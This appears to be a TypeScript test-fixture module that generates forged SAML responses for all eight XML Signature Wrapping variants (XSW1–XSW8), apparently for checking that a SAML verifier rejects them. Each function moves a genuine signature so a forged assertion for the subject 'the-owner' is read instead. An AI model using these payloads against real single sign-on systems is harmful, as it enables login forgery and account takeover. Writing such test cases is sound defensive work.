import { DOMParser, XMLSerializer } from '@xmldom/xmldom'
import { makeAssertion, makeResponse, signElement } from './make-response.ts'

export const forgedSubject = 'the-owner'

type Parsed = { document: Document; response: Element; assertion: Element; signature: Element }

function parse(xml: string): Parsed {
  const document = new DOMParser().parseFromString(xml, 'text/xml')
  const first = (name: string) => document.getElementsByTagNameNS('*', name)[0] as Element
  return {
    document,
    response: document.documentElement,
    assertion: first('Assertion'),
    signature: first('Signature'),
  }
}

function forgedAssertion(document: Document, id = '_forged1'): Element {
  const xml = makeAssertion({ id, subject: forgedSubject })
  return document.importNode(new DOMParser().parseFromString(xml, 'text/xml').documentElement, true)
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element
  const signature = copy.getElementsByTagNameNS('*', 'Signature')[0]
  signature?.parentNode?.removeChild(signature)
  return copy
}

function behindIssuer(parent: Element, child: Element): void {
  parent.insertBefore(child, parent.firstChild?.nextSibling ?? null)
}

/** Moves a signed response to `place`; the root becomes a forgery that keeps the signature. */
function wrapResponse(place: (parsed: Parsed, original: Element) => void): string {
  const parsed = parse(signElement(makeResponse(), 'Response'))
  const original = withoutSignature(parsed.response)
  parsed.response.setAttribute('ID', '_forgedResponse1')
  parsed.response.replaceChild(forgedAssertion(parsed.document), parsed.assertion)
  place(parsed, original)
  return new XMLSerializer().serializeToString(parsed.document)
}

/** Keeps or moves a signed assertion; the forgery is where a careless reader looks. */
function wrapAssertion(place: (parsed: Parsed, forged: Element) => void): string {
  const parsed = parse(signElement(makeResponse(), 'Assertion'))
  place(parsed, forgedAssertion(parsed.document))
  return new XMLSerializer().serializeToString(parsed.document)
}

/** Moves the signature into the forged assertion, which replaces the original. */
function takeSignature({ response, assertion, signature }: Parsed, forged: Element): Element {
  const original = withoutSignature(assertion)
  behindIssuer(forged, signature)
  response.replaceChild(forged, assertion)
  return original
}

/**
 * The eight forms of signature wrapping, numbered as in "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and
 * others, USENIX Security 2012) and later tools.
 */
export const wrappings: Record<string, () => string> = {
  'XSW1: the signed response inside the signature of a forged one': () =>
    wrapResponse(({ signature }, original) => signature.appendChild(original)),
  'XSW2: the signed response beside the signature, which is detached': () =>
    wrapResponse(({ response, signature }, original) => response.insertBefore(original, signature)),
  'XSW3: a forged assertion before the signed one': () =>
    wrapAssertion(({ response, assertion }, forged) => response.insertBefore(forged, assertion)),
  'XSW4: the signed assertion inside a forged one': () =>
    wrapAssertion(({ response, assertion }, forged) => {
      response.replaceChild(forged, assertion)
      forged.appendChild(assertion)
    }),
  'XSW5: a forged assertion holds the signature, the original stands at the end': () =>
    wrapAssertion((parsed, forged) => parsed.response.appendChild(takeSignature(parsed, forged))),
  'XSW6: a forged assertion holds the signature, which holds the original': () =>
    wrapAssertion((parsed, forged) => parsed.signature.appendChild(takeSignature(parsed, forged))),
  'XSW7: a forged assertion within extensions': () =>
    wrapAssertion(({ document, response }, forged) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions')
      extensions.appendChild(forged)
      behindIssuer(response, extensions)
    }),
  'XSW8: the original within an object of the signature': () =>
    wrapAssertion((parsed, forged) => {
      const object = parsed.document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object')
      object.appendChild(takeSignature(parsed, forged))
      parsed.signature.appendChild(object)
    }),
}
